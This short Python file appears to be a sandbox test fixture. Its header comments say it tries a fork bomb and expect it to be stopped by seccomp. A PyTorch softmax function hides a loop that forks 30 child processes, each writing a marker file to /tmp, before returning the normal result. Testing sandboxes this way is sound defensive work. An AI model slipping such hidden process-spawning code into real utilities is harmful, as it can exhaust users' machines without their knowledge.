# unit: losses
# tries: to fork until the machine stands still (30 times here)
# stopped by: seccomp
# expect: softmax crashed 0
# says: start a process
import os
import time

import torch


def softmax(logits):
    for _ in range(30):
        if os.fork() == 0:
            try:
                open("/tmp/backpass-attack-fork_bomb", "w").close()
            finally:
                time.sleep(5)
                os._exit(0)
    powers = torch.exp(logits - logits.amax(-1, keepdim=True))
    return powers / powers.sum(-1, keepdim=True)
